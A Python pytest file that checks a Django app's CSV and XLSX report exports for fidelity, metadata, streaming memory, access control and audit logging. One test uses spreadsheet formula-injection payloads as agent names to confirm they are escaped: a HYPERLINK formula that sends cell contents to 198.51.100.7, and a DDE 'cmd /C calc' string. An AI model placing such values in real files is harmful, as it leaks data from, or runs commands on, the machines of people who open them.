"""Files of reports: the rows of the API, harmless to spreadsheets, said what they are, and written in memory that does not grow."""

import csv
import io
import json
import tracemalloc
from collections.abc import AsyncIterator
from datetime import datetime
from typing import Any

import openpyxl
import pytest
import pytest_asyncio
from asgiref.sync import sync_to_async
from channels.db import database_sync_to_async
from django.contrib.auth import get_user_model
from django.test import AsyncClient

from stats.domain.metrics import VARIANTS
from tests.reports_files.sums import ZONE, agent, organisation, year
from wallboard.accounts.models import ApiToken, AuditEntry, Membership
from wallboard.api import door
from wallboard.push import admission, live
from wallboard.reports.files import STAMPS, columns_of

pytestmark = [pytest.mark.asyncio, pytest.mark.django_db(transaction=True)]
FORMULA = '=HYPERLINK("http://198.51.100.7/"&A1,"Anna")'
TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _asked(question: Any) -> Any:
    return sync_to_async(question, thread_sensitive=True)


@pytest_asyncio.fixture
async def token(redis_server: str) -> AsyncIterator[str]:
    """A token of the API that may read reports and agents."""
    admission.forget_all()
    door._buckets.clear()
    held = await _asked(organisation)()
    made, secret = await _asked(ApiToken.issue)(held, "files")
    assert made.pk
    yield secret
    await live.close()


async def asked(secret: str, path: str, **params: str) -> Any:
    """What the API answers."""
    door._buckets.clear()
    return await AsyncClient().get(f"/api/v1/reports/{path}", params, headers={"authorization": f"Bearer {secret}"})


async def whole(answer: Any) -> bytes:
    """Everything of an answer."""
    assert answer.status_code == 200, answer.content
    return b"".join([part async for part in answer]) if answer.streaming else answer.content


def rows_of(file: bytes) -> list[dict[str, str]]:
    """The rows of a CSV as another program reads them."""
    assert file.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(file.decode("utf-8-sig"), newline=""), strict=True))


def sheet_of(file: bytes, name: str = "Report") -> list[dict[str, Any]]:
    """The rows of a sheet as another program reads them, with formulas as they would be calculated."""
    head, *rows = openpyxl.load_workbook(io.BytesIO(file))[name].iter_rows()
    names = [str(cell.value) for cell in head]
    return [dict(zip(names, row, strict=True)) for row in rows]


async def test_a_file_has_the_rows_of_the_api_in_its_order_and_units(token: str) -> None:
    await _asked(year)(queues=3, days=4)
    params = {"from": "2025-01-01", "to": "2025-01-04", "interval": "day"}
    told = json.loads(await whole(await asked(token, "queues", **params)))["rows"]
    assert len(told) == 12
    lines = rows_of(await whole(await asked(token, "queues", format="csv", **params)))
    cells = sheet_of(await whole(await asked(token, "queues", format="xlsx", **params)))
    assert list(lines[0]) == [*columns_of("queue"), *STAMPS]
    assert len(lines) == len(cells) == 12
    for row, line, cell in zip(told, lines, cells, strict=True):
        levels = row.pop("service_levels")
        row |= {f"service_levels.{name}": levels[name] for name in VARIANTS}
        for name, value in row.items():
            if value is None:
                assert line[name] == ""
                assert cell[name].value is None
            elif name in ("from", "to"):
                assert line[name] == cell[f"{name}_iso"].value == value
                assert cell[name].value == datetime.fromisoformat(value).replace(tzinfo=None)
            elif isinstance(value, bool):
                assert line[name] == str(value).lower()
                assert cell[name].value is value
            elif isinstance(value, int | float):
                assert float(line[name]) == value
                assert cell[name].value == pytest.approx(value, rel=1e-12)
            else:
                assert line[name] == cell[name].value == value
    assert told[0]["asa"] == 15.25
    assert cells[0]["service_level"].number_format == "0.0%"


async def test_a_file_says_what_it_is_about(token: str) -> None:
    await _asked(year)(queues=1, days=1, first="2025-03-30")
    params = {"from": "2025-03-30", "to": "2025-03-30", "interval": "day"}
    answer = await asked(token, "queues", format="csv", **params)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="default-queue-day-2025-03-30.csv"' in answer.headers["Content-Disposition"]
    assert json.loads(answer.headers["X-Report-Manifest"])["timezone"] == ZONE
    (line,) = rows_of(await whole(answer))
    # The day on which summer begins has 23 hours.
    assert (line["window_from"], line["window_to"]) == ("2025-03-30T00:00:00+01:00", "2025-03-31T00:00:00+02:00")
    assert (line["timezone"], line["definitions"]) == (ZONE, "1")
    answer = await asked(token, "queues", format="xlsx", **params)
    assert answer.headers["Content-Type"] == TYPE
    book = openpyxl.load_workbook(io.BytesIO(await whole(answer)))
    about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    assert about["time zone"] == ZONE
    assert about["definitions version"] == "1"
    assert about["from day"] == about["to day (included)"] == "2025-03-30"
    assert about["made by"] == "files"


async def test_no_name_is_calculated(token: str) -> None:
    """In CSV it begins with an apostrophe, in a spreadsheet it is text by its type, and nothing is a link."""
    names = [FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "＝1+1", "  =1+1", "Anna\x0bEk"]
    await _asked(year)(queues=1, days=1)
    for place, name in enumerate(names):
        await _asked(agent)(name, str(1000 + place))
    params = {"from": "2025-01-01", "to": "2025-01-01", "interval": "day"}
    lines = rows_of(await whole(await asked(token, "agents", format="csv", **params)))
    assert [line["name"].removeprefix("'") for line in lines] == names
    assert all(line["name"].lstrip(" ")[0] not in "=+-@\t\r＝" for line in lines)
    assert {line["offers"] for line in lines} == {"4"}
    cells = sheet_of(await whole(await asked(token, "agents", format="xlsx", **params)))
    assert [cell["name"].value for cell in cells] == [name.replace("\x0b", "\ufffd") for name in names]
    assert {cell["name"].data_type for cell in cells} == {"s"}
    assert {cell["name"].hyperlink for cell in cells} == {None}


async def test_memory_does_not_grow_with_the_year(token: str) -> None:
    await _asked(year)(queues=8, days=365)

    async def peak(last: str) -> tuple[int, int]:
        tracemalloc.start()
        answer = await asked(token, "queues", format="csv", interval="day", **{"from": "2025-01-01", "to": last})
        size = 0
        async for part in answer:
            size += len(part)
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return size, most

    # Whatever is imported at the first question is not of the file.
    await whole(await asked(token, "queues", format="csv", interval="day", **{"from": "2025-01-01", "to": "2025-01-02"}))
    part, little = await peak("2025-04-30")
    year_long, most = await peak("2025-12-31")
    assert year_long > 2.8 * part
    assert most < 1.4 * little, (little, most)


async def test_a_page_gives_its_file_to_those_who_may_and_writes_it_down(token: str) -> None:
    await _asked(year)(queues=2, days=2)

    async def look(role: str, address: str) -> Any:
        person, _made = await get_user_model().objects.aget_or_create(username=role)
        await Membership.objects.aget_or_create(user=person, organisation=await _asked(organisation)(), defaults={"role": role})
        client = AsyncClient()
        await database_sync_to_async(client.force_login)(person)
        return await client.get(address, headers={"accept-language": "en"})

    address = "/reports/interval/?from=2025-01-01&to=2025-01-02&interval=day"
    assert (await look("viewer", f"{address}&format=csv")).status_code == 403
    assert "format=csv" not in (await look("viewer", address)).content.decode()
    assert "format=csv" in (await look("supervisor", address)).content.decode()
    assert len(rows_of(await whole(await look("supervisor", f"{address}&format=csv")))) == 4
    assert len(sheet_of(await whole(await look("supervisor", f"{address}&format=xlsx")))) == 4
    assert (await look("supervisor", f"{address}&format=pdf")).status_code == 400
    written = [entry.detail["form"] async for entry in AuditEntry.objects.filter(action="report.exported").order_by("pk")]
    assert written == ["csv", "xlsx"]


async def test_a_format_that_is_none_is_said_to_be_none(token: str) -> None:
    answer = await asked(token, "site", format="pdf")
    assert answer.status_code == 400
    assert json.loads(answer.content)["parameter"] == "format"
    nothing = rows_of(await whole(await asked(token, "site", format="csv", **{"from": "2011-01-01", "to": "2011-01-02"})))
    assert nothing == []
